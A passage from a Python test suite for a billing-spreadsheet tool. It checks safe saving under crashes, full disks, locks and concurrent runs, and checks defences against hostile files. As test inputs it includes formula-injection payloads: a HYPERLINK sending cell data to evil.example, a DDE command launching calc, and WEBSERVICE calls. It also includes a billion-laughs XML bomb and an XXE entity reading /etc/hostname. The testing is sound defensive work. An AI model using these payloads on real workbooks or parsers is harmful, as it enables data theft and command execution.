"""Nothing lost under races, faults and hostile files: kill points, locks, full disks, odd files, fuzzing."""

from __future__ import annotations

import asyncio
import contextlib
import copy
import datetime as dt
import errno
import json
import math
import os
import re
import shutil
import signal
import subprocess
import sys
import textwrap
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import xlwings as xw
import xlwings.server
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import cptbill.excel
import cptbill.xlsx
from cptbill import book as core
from cptbill import safefile
from cptbill.book import MemoryBook
from cptbill.contract import Flag
from cptbill.era import import_remittances, read_remittance
from cptbill.errors import CptbillError
from cptbill.models import CELL_LIMIT, CUT_ENDING, FlagNote, flags_text
from cptbill.report import refresh
from cptbill.template import write_template
from helpers import PAYER_HEADER, SESSION_HEADER, run

ROOT = Path(__file__).resolve().parent.parent
SAMPLE_835 = ROOT / "src" / "cptbill" / "data" / "sample-remittance.835"
POSIX = os.name == "posix"
CPTBILL = [sys.executable, "-c", "from cptbill.cli import main; main()"]  # the command, in a new process
ROOT_USER = POSIX and os.geteuid() == 0
Convert = Callable[[Path, str], Path]  # the `libreoffice` fixture

# Text a hostile workbook or remittance carries, which a spreadsheet would run as a formula.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(1)",
    '=WEBSERVICE("http://evil.example")',
]


def workbook(path: Path, clients: list[str] | None = None, payer: str = "Aetna") -> Path:
    """A small billing workbook; every text cell stored as text (even one starting with '=')."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Sessions"
    rows: list[list[Any]] = [["Date", "Client", "Payer", "Minutes"]]
    for i, client in enumerate(clients or ["Ann", "Bo"]):
        rows.append([dt.date(2026, 11, 3 + i), client, payer, 38 + i])
    payers = wb.create_sheet("Payers")
    for sheet, block in ((ws, rows), (payers, [["Payer", "Accepts", "Rate 97124"], [payer, "97124", 30]])):
        for r, values in enumerate(block, start=1):
            for column, value in enumerate(values, start=1):
                as_text(sheet.cell(row=r, column=column), value)
    wb.save(path)
    return path


def as_text(cell: Any, value: Any) -> None:
    cell.value = value
    if isinstance(value, str) and cell.data_type == "f":
        cell.data_type = "s"


def temp_files(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith(".~cptbill"))


def formulas(path: Path) -> list[str]:
    """Every formula in every sheet of a saved workbook, straight from its XML."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(r"<(?:\w+:)?f\b[^>]*>([^<]*)<", archive.read(name).decode())
    return found


# ---------------------------------------------------------------- kill points during the save


def _fail_write(monkeypatch: pytest.MonkeyPatch, target: Path, error: BaseException) -> None:
    real = cptbill.xlsx.save

    def half(*args: Any) -> None:
        stream = args[-1]
        real(*args)
        stream.truncate(100)
        raise error

    monkeypatch.setattr(cptbill.xlsx, "save", half)


def _fail_fsync(monkeypatch: pytest.MonkeyPatch, target: Path, error: BaseException) -> None:
    def fsync(fd: int) -> None:
        raise error

    monkeypatch.setattr(os, "fsync", fsync)


def _fail_backup(monkeypatch: pytest.MonkeyPatch, target: Path, error: BaseException) -> None:
    def no_link(source: Any, destination: Any, **kwargs: Any) -> None:
        raise OSError(errno.EXDEV, "Invalid cross-device link")  # the backup is then copied

    def half_copy(source: Any, destination: Any, **kwargs: Any) -> None:
        Path(destination).write_bytes(Path(source).read_bytes()[:100])
        raise error

    monkeypatch.setattr(os, "link", no_link)
    monkeypatch.setattr(shutil, "copy2", half_copy)


def _fail_replace(monkeypatch: pytest.MonkeyPatch, target: Path, error: BaseException) -> None:
    real = os.replace

    def replace(source: Any, destination: Any) -> None:
        if Path(destination) == target:
            raise error
        real(source, destination)

    monkeypatch.setattr(os, "replace", replace)


KILL_POINTS = {
    "temp write": _fail_write,
    "fsync": _fail_fsync,
    "backup": _fail_backup,
    "replace": _fail_replace,
}


@pytest.mark.parametrize("step", list(KILL_POINTS))
def test_an_io_error_at_each_save_step_leaves_the_workbook_and_its_backup_intact(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, step: str
) -> None:
    path = workbook(tmp_path / "billing.xlsx")
    (tmp_path / "billing.bak.xlsx").write_bytes(b"an older backup")
    original = path.read_bytes()
    KILL_POINTS[step](monkeypatch, path.resolve(), OSError(errno.EIO, "Input/output error"))
    status, out, err = run(capsys, "recode", str(path))
    assert status == 2 and out == ""
    assert err.count("\n") == 1 and "could not be saved (Input/output error)" in err, err
    assert path.read_bytes() == original
    assert temp_files(tmp_path) == []
    backup = (tmp_path / "billing.bak.xlsx").read_bytes()
    assert backup in (b"an older backup", original)  # at worst the backup is the current version


@pytest.mark.parametrize("step", list(KILL_POINTS))
def test_an_interrupt_at_each_save_step_leaves_the_workbook_intact(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, step: str
) -> None:
    from cptbill.cli import main

    path = workbook(tmp_path / "billing.xlsx")
    original = path.read_bytes()
    KILL_POINTS[step](monkeypatch, path.resolve(), KeyboardInterrupt())
    with pytest.raises((KeyboardInterrupt, SystemExit)):  # the command line stops with status 130
        main(["recode", str(path)])
    assert path.read_bytes() == original
    assert temp_files(tmp_path) == []


def test_a_run_killed_mid_save_leaves_the_original_and_the_next_run_cleans_up(tmp_path: Path) -> None:
    path = workbook(tmp_path / "billing.xlsx")
    original = path.read_bytes()
    ready = tmp_path / "ready"
    script = textwrap.dedent(
        f"""
        import os, time, sys
        from pathlib import Path
        def stuck(fd):
            Path({str(ready)!r}).write_text("writing")
            time.sleep(60)
        os.fsync = stuck
        from cptbill.cli import main
        main(["recode", {str(path)!r}])
        """
    )
    child = subprocess.Popen([sys.executable, "-c", script])
    try:
        deadline = time.monotonic() + 30
        while not ready.exists() and time.monotonic() < deadline:
            time.sleep(0.05)
        assert ready.exists(), "the child never reached the save"
        os.kill(child.pid, signal.SIGKILL)  # kill -9: no clean-up code runs
    finally:
        child.wait()
    assert path.read_bytes() == original
    left = [name for name in temp_files(tmp_path) if not name.endswith(".lock")]
    assert left, "the killed run left its temporary file (the next run must remove it)"
    done = subprocess.run([*CPTBILL, "recode", str(path)], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert temp_files(tmp_path) == []
    assert path.read_bytes() != original


# ---------------------------------------------------------------- a full disk, read-only places


@contextlib.contextmanager
def tmpfs(folder: Path, size: str) -> Iterator[bool]:
    """A small tmpfs mounted on `folder` when allowed (root in CI); yields whether it is mounted."""
    folder.mkdir()
    if not ROOT_USER or shutil.which("mount") is None:
        yield False
        return
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", f"size={size},mode=0755", "tmpfs", str(folder)],
        capture_output=True,
        check=False,
    )
    try:
        yield mounted.returncode == 0
    finally:
        if mounted.returncode == 0:
            subprocess.run(["umount", "-l", str(folder)], capture_output=True, check=False)


def test_a_full_disk_gives_one_sentence_and_leaves_the_workbook_intact(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    with tmpfs(tmp_path / "disk", "256k") as mounted:
        path = workbook(tmp_path / "disk" / "billing.xlsx")
        original = path.read_bytes()
        if mounted:  # a real full disk: fill what is left
            filler = open(tmp_path / "disk" / "filler", "wb", buffering=0)  # noqa: SIM115
            with filler, contextlib.suppress(OSError):
                while True:
                    filler.write(b"\0" * 4096)
        else:  # elsewhere: the write raises what a full disk raises
            real = os.fsync

            def full(fd: int) -> None:
                if os.fstat(fd).st_size > 0:
                    raise OSError(errno.ENOSPC, "No space left on device")
                real(fd)

            monkeypatch.setattr(os, "fsync", full)
        status, out, err = run(capsys, "recode", str(path))
        assert status == 2 and out == ""
        assert err.count("\n") == 1 and "The disk is full" in err and "left as it was" in err, err
        assert path.read_bytes() == original
        assert [n for n in temp_files(path.parent)] == []


def test_a_read_only_workbook_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = workbook(tmp_path / "billing.xlsx")
    path.chmod(0o444)
    original = path.read_bytes()
    status, out, err = run(capsys, "recode", str(path))
    assert status == 2 and out == "" and "the workbook is read-only" in err and err.count("\n") == 1
    assert path.read_bytes() == original and path.stat().st_mode & 0o777 == 0o444
    assert sorted(p.name for p in tmp_path.iterdir()) == ["billing.xlsx"]
    assert run(capsys, "check", str(path))[0] == 0  # reading it is fine


def test_a_read_only_folder_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with tmpfs(tmp_path / "folder", "1m") as mounted:
        folder = tmp_path / "folder"
        path = workbook(folder / "billing.xlsx")
        original = path.read_bytes()
        if mounted:  # read-only for root too: a read-only file system
            subprocess.run(["mount", "-o", "remount,ro", str(folder)], check=True, capture_output=True)
        else:
            folder.chmod(0o555)
        try:
            status, out, err = run(capsys, "recode", str(path))
        finally:
            if not mounted:
                folder.chmod(0o755)
        assert status == 2 and out == ""
        assert err.count("\n") == 1 and "may not write in the folder" in err, err
        assert path.read_bytes() == original
        assert run(capsys, "check", str(path))[0] == 0


def test_a_folder_where_the_backup_cannot_go(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    path = workbook(tmp_path / "billing.xlsx")
    original = path.read_bytes()
    (tmp_path / "billing.bak.xlsx").mkdir()
    status, _, err = run(capsys, "recode", str(path))
    assert status == 2 and "billing.bak.xlsx is in the way" in err and err.count("\n") == 1
    assert path.read_bytes() == original
    (tmp_path / "billing.bak.xlsx").rmdir()
    # The operating system refusing the backup (a permission it checks only then) is one sentence too.
    real = os.replace

    def refused(source: Any, destination: Any) -> None:
        if Path(destination).name == "billing.bak.xlsx":
            raise PermissionError(errno.EACCES, "Permission denied")
        real(source, destination)

    monkeypatch.setattr(os, "replace", refused)
    status, _, err = run(capsys, "recode", str(path))
    assert status == 2 and "may not write in the folder" in err and err.count("\n") == 1
    assert path.read_bytes() == original and temp_files(tmp_path) == []


# ---------------------------------------------------------------- links and special files


@pytest.mark.skipif(not POSIX, reason="symbolic links need privileges on Windows")
def test_a_link_is_followed_and_the_real_workbook_updated(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "store").mkdir()
    real = workbook(tmp_path / "store" / "billing.xlsx")
    real.chmod(0o640)
    link = tmp_path / "billing.xlsx"
    link.symlink_to(real)
    status, _, err = run(capsys, "recode", str(link))
    assert status == 0, err
    assert link.is_symlink() and link.resolve() == real.resolve()
    assert openpyxl.load_workbook(real)["Sessions"]["E1"].value == "Code"
    assert (tmp_path / "store" / "billing.bak.xlsx").exists()
    assert not (tmp_path / "billing.bak.xlsx").exists()
    assert real.stat().st_mode & 0o777 == 0o640


@pytest.mark.skipif(not POSIX, reason="named pipes and /dev/zero are POSIX")
@pytest.mark.parametrize("kind", ["named pipe", "link to /dev/zero", "device", "loop of links"])
@pytest.mark.parametrize("command", ["check", "recode"])
def test_special_files_are_refused_before_they_are_opened(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], kind: str, command: str
) -> None:
    path = tmp_path / "billing.xlsx"
    if kind == "named pipe":
        os.mkfifo(path)
    elif kind == "link to /dev/zero":
        path.symlink_to("/dev/zero")
    elif kind == "loop of links":
        path.symlink_to(tmp_path / "other.xlsx")
        (tmp_path / "other.xlsx").symlink_to(path)
    else:
        path = Path("/dev/null")
    result: list[tuple[int, str, str]] = []
    worker = threading.Thread(target=lambda: result.append(run(capsys, command, str(path))), daemon=True)
    worker.start()
    worker.join(timeout=20)
    assert result, f"cptbill {command} hung on a {kind}"
    status, out, err = result[0]
    assert status == 2 and out == "" and err.count("\n") == 1
    assert ("cannot be opened" if kind == "loop of links" else "not a workbook file") in err, err


def test_a_job_that_changes_nothing_does_not_save(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = workbook(tmp_path / "billing.xlsx")
    assert run(capsys, "recode", str(path))[0] == 0
    before = path.read_bytes(), path.stat().st_mtime_ns
    status, out, _ = run(capsys, "recode", str(path))
    assert status == 0 and "Nothing to change" in out
    assert (path.read_bytes(), path.stat().st_mtime_ns) == before


# ---------------------------------------------------------------- owner, permissions, stale files


def test_mode_and_owner_are_kept(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = workbook(tmp_path / "billing.xlsx")
    path.chmod(0o604)
    owner = None
    if ROOT_USER:
        owner = (4321, 4322)
        os.chown(path, *owner)
    assert run(capsys, "recode", str(path))[0] == 0
    info = path.stat()
    assert info.st_mode & 0o777 == 0o604
    if owner is not None:
        assert (info.st_uid, info.st_gid) == owner


def test_stale_temporary_files_of_interrupted_runs_are_removed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = workbook(tmp_path / "billing.xlsx")
    own = safefile._temp_prefix(path) + "x1y2.xlsx"  # this workbook's: left over, whatever its age
    old = ".~cptbill-a1b2c3.xlsx"  # another's, from hours ago (and the naming of earlier versions)
    fresh = safefile._temp_prefix(tmp_path / "other.xlsx") + "k9.xlsx"  # another run may be writing it
    mine = [".~cptbilling-notes.txt", "~$other.xlsx", ".~cptbill-folder"]  # not cptbill's temp files
    for name in (own, old, fresh, *mine[:2]):
        (tmp_path / name).write_bytes(b"session data")
    (tmp_path / mine[2]).mkdir()
    hours_ago = time.time() - 3 * 3600
    os.utime(tmp_path / old, (hours_ago, hours_ago))
    assert run(capsys, "recode", str(path))[0] == 0
    left = {p.name for p in tmp_path.iterdir()}
    assert own not in left and old not in left
    assert {fresh, *mine} <= left
    assert safefile.lock_path(path.resolve()).name not in left  # the lock file goes with the run


# ---------------------------------------------------------------- two runs, one workbook


def test_a_second_run_waits_then_gives_up_with_one_sentence(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    path = workbook(tmp_path / "billing.xlsx")
    original = path.read_bytes()
    monkeypatch.setattr(safefile, "LOCK_WAIT", 0.3)
    with safefile.updating(path):
        started = time.monotonic()
        status, out, err = run(capsys, "recode", str(path))
        waited = time.monotonic() - started
    assert status == 2 and out == "" and err.count("\n") == 1
    assert "Another cptbill is working on billing.xlsx" in err
    assert waited >= 0.3  # it waited before giving up
    assert path.read_bytes() == original
    assert run(capsys, "check", str(path))[0] == 0  # a check never waits


def test_a_second_run_waits_for_the_first_and_then_reads_its_result(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = workbook(tmp_path / "billing.xlsx")
    first = workbook(tmp_path / "first.xlsx", clients=["Ann", "Bo", "Cy"])
    holding = threading.Event()

    def first_run() -> None:
        with safefile.updating(path) as update:
            holding.set()
            time.sleep(0.5)
            update.save(lambda stream: stream.write(first.read_bytes()))

    worker = threading.Thread(target=first_run)
    worker.start()
    holding.wait(10)
    status, _, err = run(capsys, "recode", str(path))
    worker.join()
    assert status == 0, err
    clients = [r[1] for r in openpyxl.load_workbook(path)["Sessions"].iter_rows(min_row=2, values_only=True)]
    assert clients == ["Ann", "Bo", "Cy"]  # the first run's line is there, coded by the second


def test_a_file_changed_by_another_program_meanwhile_is_not_overwritten(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    path = workbook(tmp_path / "billing.xlsx")
    theirs = workbook(tmp_path / "theirs.xlsx", clients=["Excel's edit"]).read_bytes()
    real_log = core.log_changes

    def meanwhile(*args: Any, **kwargs: Any) -> None:
        path.write_bytes(theirs)  # Excel (or a sync client) saves while cptbill works
        real_log(*args, **kwargs)

    monkeypatch.setattr(core, "log_changes", meanwhile)
    status, out, err = run(capsys, "recode", str(path))
    assert status == 2 and out == "" and err.count("\n") == 1
    assert "was changed by another program" in err
    assert path.read_bytes() == theirs
    assert temp_files(tmp_path) == []


def blank_codes(path: Path) -> int:
    """Clear Code, Units, Expected and Flags on Sessions; return how many lines a recode of 2026-11 codes."""
    wb = openpyxl.load_workbook(path)
    ws = wb["Sessions"]
    header = [c.value for c in ws[1]]
    for row in ws.iter_rows(min_row=2):
        for name in ("Code", "Units", "Expected", "Flags"):
            row[header.index(name)].value = None
    wb.save(path)
    reference = path.with_name("reference.xlsx")
    shutil.copy(path, reference)
    assert run_quiet("recode", str(reference), "--month", "2026-11") == 0
    coded = len(codes(reference))
    reference.unlink()
    path.with_name("reference.bak.xlsx").unlink()
    return coded


def codes(path: Path) -> list[Any]:
    ws = openpyxl.load_workbook(path)["Sessions"]
    header = [c.value for c in ws[1]]
    return [
        r[header.index("Code")] for r in ws.iter_rows(min_row=2, values_only=True) if r[header.index("Code")]
    ]


def test_two_processes_on_one_workbook_lose_nothing(tmp_path: Path) -> None:
    """import-era and recode started together, three times: each one's changes are in the file."""
    path = tmp_path / "billing.xlsx"
    write_template(path, sample=True)
    for round_ in range(3):
        coded = blank_codes(path)
        assert coded > 10
        era = tmp_path / f"round{round_}.835"
        era.write_text(SAMPLE_835.read_text().replace("*12*SMI26", f"*12*R{round_}S"))
        procs = [
            subprocess.Popen([*CPTBILL, "import-era", str(path), str(era), "--json"], stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True),
            subprocess.Popen([*CPTBILL, "recode", str(path), "--month", "2026-11", "--json"],
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True),
        ]  # fmt: skip
        results = [(p.wait(60), *p.communicate()) for p in procs]
        for status, _, err in results:
            assert status == 0 or (status == 2 and "Another cptbill is working on" in err), err
        claim_ids = [
            str(c.value) for row in openpyxl.load_workbook(path)["Claims"].iter_rows(min_row=2) for c in row
        ]
        if results[0][0] == 0:
            assert json.loads(results[0][1])["added"] > 0
            assert any(f"R{round_}S" in v for v in claim_ids), "the import's rows were lost"
        if results[1][0] == 0:
            assert len(codes(path)) == coded, "the recode's codes were lost"
        assert any(r[0] == 0 for r in results)
    assert temp_files(tmp_path) == []


# ---------------------------------------------------------------- text is written as text


def test_file_door_writes_hostile_text_as_text_on_every_sheet(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = workbook(tmp_path / "billing.xlsx", clients=PAYLOADS, payer="=Payer()")
    status, _, err = run(capsys, "recode", str(path), "--month", "2026-11")
    assert status == 0, err
    era = tmp_path / "=1+1.835"
    era.write_text(hostile_835())
    status, _, err = run(capsys, "import-era", str(path), str(era))
    assert status == 0, err
    assert run(capsys, "report", str(path))[0] == 0
    assert formulas(path) == []
    wb = openpyxl.load_workbook(path)
    texts = {
        c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)
    }
    assert set(PAYLOADS) <= texts and "=Payer()" in texts
    assert any(v.startswith("=1+1.835") for v in texts)  # the 835's file name, on Claims
    assert any(v.startswith("-ROSA =HYPERLINK") for v in texts)  # the 835's client name
    summary = [c.value for row in wb["Summary"].iter_rows() for c in row]
    assert "=Payer()" in summary  # the payer's name, copied onto the Summary


def hostile_835() -> str:
    """The sample remittance with formulas for a client, a payer, a claim ID."""
    return (
        SAMPLE_835.read_text()
        .replace("NM1*QC*1*DELGADO*ROSA", 'NM1*QC*1*=HYPERLINK("evil.example","ok")*-ROSA')
        .replace("N1*PR*SUMMIT MUTUAL INSURANCE*XV*SMI77", "N1*PR*@SUM(1+1)*XV*@SMI")
        .replace("*12*SMI2610220001~", "*12*+SMI2610220001~")
    )


def xlwings_run(sheets: dict[str, list[list[Any]]], job: Callable[[Any], Any]) -> list[dict[str, Any]]:
    """Run a job on an xlwings book built from values (Office.js payload); return its recorded writes."""
    entries = []
    for name, rows in sheets.items():
        width = max(len(r) for r in rows)
        values = [["" if v is None else v for v in [*r, *[None] * (width - len(r))]] for r in rows]
        entries.append({"name": name, "values": values, "pictures": [], "tables": [], "charts": [],
                        "shapes": [], "notes": []})  # fmt: skip
    data = {"client": "Office.js", "version": xw.__version__, "names": [], "sheets": entries,
            "book": {"name": "book.xlsx", "active_sheet_index": 0, "selection": "A1"}}  # fmt: skip
    book = xw.Book(json=copy.deepcopy(data))

    async def script(book: xw.Book) -> None:
        job(book)

    asyncio.run(
        xlwings.server.custom_scripts_call(_Module(script), "script", typehint_to_value={xw.Book: book})
    )
    actions: list[dict[str, Any]] = json.loads(json.dumps(book.json()))["actions"]
    return actions


class _Module:
    """A one-script module for xlwings' script dispatcher."""

    def __init__(self, function: Callable[..., Any]) -> None:
        self.script = xw.script(function)


def written_text(actions: list[dict[str, Any]]) -> list[str]:
    return [
        v
        for a in actions
        if a["func"] == "setValues"
        for row in a["values"]
        for v in row
        if isinstance(v, str)
    ]


def test_xlwings_door_writes_hostile_text_as_text(tmp_path: Path) -> None:
    era = tmp_path / "=1+1.835"
    era.write_text(hostile_835())
    remittance = read_remittance(era)
    sessions = [["Date", "Client", "Payer", "Minutes"]] + [
        [46000.0 + i, client, "=Payer()", 38] for i, client in enumerate(PAYLOADS)
    ]
    sheets = {"Sessions": sessions, "Payers": [["Payer", "Rate 97124"], ["Aetna", 30]]}

    def job(book: Any) -> None:
        door = cptbill.excel.XlwingsBook(book)
        core.recode(door, None, after=[refresh])
        import_remittances(door, None, [remittance])
        door.append_rows("Notes", ["Note"], [["000123", "'quoted", "2026-11", "Ann", "May", "CO-97"]])

    texts = written_text(xlwings_run(sheets, job))
    risky = [t for t in texts if t[:1] in ("=", "+", "-", "@")]
    assert risky == [], risky  # each is sent behind an apostrophe, which Excel keeps out of the value
    sent = set(texts)
    assert "'=Payer()" in sent  # the payer's name, copied onto the Summary
    assert any(t.startswith("'=1+1.835") for t in sent)  # the 835's file name on Claims
    assert any(t.startswith("'-ROSA =HYPERLINK") for t in sent)  # the 835's client
    assert "'+SMI2610220001" in sent  # the payer's claim ID
    assert "'@SUM(1+1)" in sent or "'@SMI" in sent
    assert {"'000123", "''quoted", "'2026-11"} <= sent  # numbers, dates and apostrophes as typed, too
    assert {"Ann", "May", "CO-97"} <= sent  # plain text goes as it is


def test_how_to_use_help_text_is_text_in_libreoffice(tmp_path: Path, libreoffice: Convert) -> None:
    path = write_template(tmp_path / "template.xlsx")
    assert formulas(path) == []
    shown = openpyxl.load_workbook(libreoffice(path, "xlsx"), data_only=True)["How to use"]
    texts = [c.value for row in shown.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(t.startswith("=CPTUNITS(D2:D100) gives the units") for t in texts)
    assert not any("Err:" in t or t.startswith("#") for t in texts)


# ---------------------------------------------------------------- numbers, flags and XML


HUGE = [1e300, -1e300, "1e300", "1e999", "-1e999", "nan", "NaN", "inf", "-Infinity", 1e-300, "1e-300", 2**80]


@pytest.mark.parametrize("value", HUGE, ids=[repr(v) for v in HUGE])
def test_numbers_outside_sane_ranges_are_flags_or_warnings_never_crashes(value: Any) -> None:
    sessions = [SESSION_HEADER, ["2026-11-03", "Ann", "Aetna", value, None, None, None, None, value, value, None],
                ["2026-11-04", "Bo", "Aetna", 38, None, None, None, None, None, None, None]]  # fmt: skip
    payers = [PAYER_HEADER, ["Aetna", "", "", value, value, value, "", value]]
    claims = [["Date", "Client", "Payer", "Code", "Units", "Billed", "Paid", "Status"],
              ["2026-10-01", "Ann", "Aetna", "97124", value, value, value, "Paid"],
              ["2026-10-02", "Ann", "Aetna", "97140", 2, 60, 50, "Paid"]]  # fmt: skip
    book = MemoryBook({"Sessions": sessions, "Payers": payers, "Claims": claims})
    plan, loaded = core.check(book)
    assert [r.row for r in plan.results] == [2, 3]
    plan, loaded = core.recode(book, after=[refresh])
    first = next(r for r in plan.results if r.row == 2)
    number = float(value) if not isinstance(value, int) else value
    if not math.isfinite(number) or abs(number) > 600:  # minutes out of range: a flag on the line
        assert any(f.flag == Flag.BAD_MINUTES for f in first.flags)
    assert any("Rate 97124" in w for w in loaded.warnings) == (not 0 <= number <= 1e9)
    assert book.sheets["Sessions"][2][7] is not None  # the sane line is coded


def test_flags_are_cut_at_the_cell_limit_the_same_way_each_time(tmp_path: Path) -> None:
    long_payer = "P" * 40000
    text = flags_text([FlagNote(Flag.UNKNOWN_PAYER, f"'{long_payer}' is not on the Payers sheet")])
    assert len(text) == CELL_LIMIT and text.endswith(CUT_ENDING)
    assert (
        flags_text([FlagNote(Flag.UNKNOWN_PAYER, "😀" * 20000)]).encode("utf-16-le").__len__() // 2
        <= CELL_LIMIT
    )
    path = workbook(tmp_path / "billing.xlsx", payer=long_payer[:32000])
    wb = openpyxl.load_workbook(path)
    wb["Sessions"]["C2"].value = long_payer  # longer than a cell (written by a program, not Excel)
    wb.save(path)
    assert run_quiet("recode", str(path)) == 0
    flags = [r[-1] for r in openpyxl.load_workbook(path)["Sessions"].iter_rows(min_row=2, values_only=True)]
    assert len(flags[0]) == CELL_LIMIT and flags[0].endswith(CUT_ENDING)
    before = path.read_bytes()
    assert run_quiet("recode", str(path)) == 0  # recoding again changes nothing
    assert path.read_bytes() == before


def run_quiet(*args: str) -> int:
    from cptbill.cli import main

    try:
        main(list(args))
    except SystemExit as done:
        return int(done.code or 0)
    return 0


BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>
"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>
"""


@pytest.mark.parametrize("attack", ["billion laughs", "external entity"])
@pytest.mark.parametrize("command", ["check", "recode"])
def test_xml_with_entities_is_refused_or_never_expanded(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], attack: str, command: str
) -> None:
    path = workbook(tmp_path / "billing.xlsx")
    with zipfile.ZipFile(path) as archive:
        parts = {n: archive.read(n) for n in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    if sheet.startswith(b"<?xml"):
        sheet = sheet.split(b"?>", 1)[1]
    entity = b"&lol9;" if attack == "billion laughs" else b"&xxe;"
    # The client cell as an inline string holding the entity.
    sheet = re.sub(
        rb'<c r="B2"[^>]*>.*?</c>', b'<c r="B2" t="inlineStr"><is><t>' + entity + b"</t></is></c>", sheet
    )
    parts["xl/worksheets/sheet1.xml"] = (BOMB if attack == "billion laughs" else XXE) + sheet
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    original = path.read_bytes()
    status, out, err = run(capsys, command, str(path))
    assert status == 2 and out == "" and err.count("\n") == 1, err  # a DTD is refused, never parsed
    assert "lollollol" not in err and path.read_bytes() == original
    hostname = Path("/etc/hostname")
    if hostname.exists() and hostname.read_text().strip():
        assert hostname.read_text().strip() not in err


# ---------------------------------------------------------------- fuzzing cell values


CELL = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    st.sampled_from([1e300, -1e300, 1e-300, 9.99e307, 0.0, -0.0, 38, 600, 601, 45000.0]),
    st.sampled_from(["nan", "NaN", "inf", "-inf", "Infinity", "1e300", "1e-300", "#N/A", "#DIV/0!", "#NUM!",
                     "#VALUE!", "TRUE", "", "   ", "2026-11-03", "11/03/2026", "$31.20", "97124", "97140"]),
    st.sampled_from(PAYLOADS),
    st.text(max_size=30),
    st.text(alphabet="=+-@'x", min_size=1, max_size=8),
    st.integers(min_value=33000, max_value=40000).map(lambda n: "L" * n),
)  # fmt: skip
LINE = st.tuples(
    st.one_of(CELL, st.sampled_from(["2026-11-03", dt.datetime(2026, 11, 4)])),
    CELL,
    st.one_of(CELL, st.just("Aetna")),
    st.one_of(CELL, st.integers(0, 120)),
    CELL, CELL, CELL, CELL, CELL, CELL, CELL,
)  # fmt: skip
PAYER = st.tuples(st.just("Aetna"), CELL, CELL, CELL, CELL, CELL, CELL, CELL)
CLAIM = st.tuples(
    CELL, CELL, st.just("Aetna"), CELL, CELL, CELL, CELL, st.sampled_from(["Paid", "Denied", "x"])
)
CLAIM_HEADER = ["Date", "Client", "Payer", "Code", "Units", "Billed", "Paid", "Status"]


def fuzz_sheets(lines: list[Any], payers: list[Any], claims: list[Any]) -> dict[str, list[list[Any]]]:
    return {
        "Sessions": [list(SESSION_HEADER), *[list(r) for r in lines]],
        "Payers": [list(PAYER_HEADER), *[list(r) for r in payers]],
        "Claims": [list(CLAIM_HEADER), *[list(r) for r in claims]],
    }


def user_columns(rows: list[list[Any]]) -> list[list[Any]]:
    """Date, Client, Payer, Minutes, Service, Visit, Lock of each row: what a recode never writes."""
    return [list(r[:7]) for r in rows[1:]]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(LINE, max_size=6), st.lists(PAYER, max_size=2), st.lists(CLAIM, max_size=4))
def test_random_cells_through_memory_book_never_crash_or_lose_a_row(
    lines: list[Any], payers: list[Any], claims: list[Any]
) -> None:
